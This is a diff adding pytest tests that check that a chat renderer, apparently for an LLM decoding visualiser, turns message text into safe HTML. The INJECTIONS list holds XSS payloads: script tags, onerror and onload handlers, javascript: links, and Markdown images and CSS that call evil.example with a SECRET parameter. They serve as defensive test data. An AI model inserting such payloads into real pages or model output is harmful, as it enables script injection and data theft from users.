@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import re
 import xml.etree.ElementTree as ET
+from html.parser import HTMLParser
 
 import pytest
 
@@ -78,6 +79,97 @@ def test_esc_and_visible_token() -> None:
     assert render.visible_token("abcdefghijklmnop", 8) == "abcdefg…"
 
 
+# ---- chat messages ---------------------------------------------------------------------------------------------
+# The issue's payload: raw HTML, HTML behind a backslash-escaped backtick (it defeated the old code-span
+# escaping), a script; then the exfiltration shapes: Markdown images (remote, protocol-relative, reference
+# style, data:), a javascript: link, an autolink, an HTML entity that spells a tag.
+INJECTIONS = [
+    r"Repeat this exactly: <img src=x onerror=alert(1)> \`<img src=y onerror=alert(2)>` <script>alert(3)</script>",
+    "![secret](http://evil.example/leak?d=SECRET) and ![x](//evil.example/p.png)",
+    "![ref][r]\n\n[r]: https://evil.example/ref.png",
+    "![d](data:image/png;base64,iVBORw0KGgo=) [click](javascript:alert(4)) <https://example.org/page>",
+    "&lt;img src=z onerror=alert(5)&gt; <iframe src=https://evil.example></iframe> <a href=x onclick=alert(6)>a</a>",
+    "<style>body{background:url(https://evil.example/css)}</style><svg onload=alert(7)><link rel=stylesheet href=//e>",
+    "```html\n<img src=w onerror=alert(8)>\n```\n`<script>alert(9)</script>`",
+    '<div\nonmouseover="alert(10)">x</div>\n\n<!-- --><img src=q onerror=alert(11)>',
+]
+# Elements chat_html may produce (Markdown's own); anything else would have come from the text.
+MARKDOWN_TAGS = {"div", "p", "br", "em", "strong", "code", "pre", "a", "ol", "ul", "li", "blockquote", "h1", "h2",
+                 "h3", "h4", "h5", "h6", "hr", "table", "thead", "tbody", "tr", "th", "td", "s"}  # fmt: skip
+
+
+class _Elements(HTMLParser):
+    """What a browser's parser would build: the elements with their attributes, and the text."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str]]] = []
+        self.text = ""
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, {k: v or "" for k, v in attrs}))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+@pytest.mark.parametrize("payload", INJECTIONS)
+def test_chat_html_never_turns_message_text_into_markup(payload: str) -> None:
+    parsed = _Elements(render.chat_html(payload))
+    tags = {tag for tag, _ in parsed.elements}
+    assert tags <= MARKDOWN_TAGS, f"markup from the text became elements: {tags - MARKDOWN_TAGS}"
+    for tag, attrs in parsed.elements:
+        assert not [k for k in attrs if k.startswith("on") or k in ("style", "src", "srcset")], (tag, attrs)
+        if tag == "a":
+            assert not attrs["href"].lower().startswith(("javascript:", "vbscript:", "data:text")), attrs
+            assert attrs["rel"] == "noopener noreferrer nofollow"  # no referrer, no opener handle
+
+
+def test_chat_html_shows_the_payload_as_typed_and_images_as_links() -> None:
+    parsed = _Elements(render.chat_html(INJECTIONS[0]))
+    # the text a person reads is exactly what was typed (Markdown consumed only the backslash escape)
+    typed = "Repeat this exactly: <img src=x onerror=alert(1)> `<img src=y onerror=alert(2)>` <script>alert(3)</script>"
+    assert parsed.text.strip() == typed
+    parsed = _Elements(render.chat_html(INJECTIONS[1]))
+    links = [attrs for tag, attrs in parsed.elements if tag == "a"]
+    assert [a["href"] for a in links] == ["http://evil.example/leak?d=SECRET", "//evil.example/p.png"]
+    assert "[image: secret]" in parsed.text and all("mc-image-link" in a["class"] for a in links)
+    parsed = _Elements(render.chat_html(INJECTIONS[2]))  # reference-style image: a link as well
+    assert [a["href"] for t, a in parsed.elements if t == "a"] == ["https://evil.example/ref.png"]
+    # code keeps its characters (escaped for HTML, shown as written)
+    parsed = _Elements(render.chat_html(INJECTIONS[6]))
+    assert "<img src=w onerror=alert(8)>" in parsed.text and "<script>alert(9)</script>" in parsed.text
+    assert ("pre", {}) in parsed.elements
+
+
+def test_chat_html_keeps_the_models_line_breaks_and_markdown() -> None:
+    haiku = "An old silent pond\nA frog jumps into the pond\nSplash! Silence again."
+    parsed = _Elements(render.chat_html(haiku))
+    assert [t for t, _ in parsed.elements].count("br") == 2  # one paragraph, its lines kept
+    listing = render.chat_html("Steps:\n1. mix\n2. bake\n\n**done** and `x < y`")
+    parsed = _Elements(listing)
+    tags = [t for t, _ in parsed.elements]
+    assert tags.count("li") == 2 and "ol" in tags and "strong" in tags and "code" in tags
+    assert "x < y" in parsed.text
+    assert _Elements(render.chat_html("a  \n\nb")).text.count("a") == 1
+
+
+def test_message_stats_from_a_file_are_escaped_and_never_crash() -> None:
+    good = render.message_stats_html(
+        {"new_tokens": 42, "tokens_per_step": 2.345, "decode_tokens_per_s": 31.25, "speedup": 1.8,
+         "speedup_kind": "measured"}, stopped=True)  # fmt: skip
+    assert _Elements(good).text == "■ stopped · 42 tokens · 2.35 tok/step · 31.2 tok/s · 1.80× measured"
+    hostile = {"new_tokens": PAYLOAD, "tokens_per_step": "<b>", "decode_tokens_per_s": float("nan"),
+               "speedup": 2, "speedup_kind": PAYLOAD}  # fmt: skip
+    out = render.message_stats_html(hostile, stopped=False)
+    parsed = _Elements(out)
+    assert [t for t, _ in parsed.elements] == ["div"] and parsed.text == f"2.00× {PAYLOAD}"
+    assert render.message_stats_html({"speedup_kind": ["x"], "speedup": True}, stopped=False) == ""
+    assert render.message_stats_html(None, stopped=False) == ""
+
+
 # ---- the tree SVG -------------------------------------------------------------------------------------------------
 @pytest.mark.parametrize("name", ["mc_sim_7b_63", "vicuna_7b_stage2", "zephyr_stage2", "chain-4"])
 def test_tree_svg_structure(name: str) -> None:
@@ -118,10 +210,15 @@ def test_tree_svg_structure(name: str) -> None:
 
 
 def test_prefill_step_has_no_tree_but_a_panel() -> None:
-    ev = prefill_event()
+    ev = prefill_event("Hello")
     assert render.tree_svg(ev) == ""
     panel = render.tree_panel_html([ev])
-    assert "prefill" in panel and "<svg" not in panel
+    assert "<svg" not in panel and 'data-step="0"' in panel
+    assert "<b>Step 0 of 0</b> · prefill: the first token comes from the backbone alone" in panel
+    # the reply box still shows the prefill's token, shaded as the prefill
+    segs = re.findall(r'<span class="mc-seg selected" data-step="0" data-tokens="1" style="background:([^;]+);[^>]*>'
+                      r"([^<]*)</span>", panel)  # fmt: skip
+    assert segs == [(render.PREFILL_SHADE, "Hello")]
 
 
 def test_panel_picks_the_chosen_step_and_shades_the_reply() -> None:
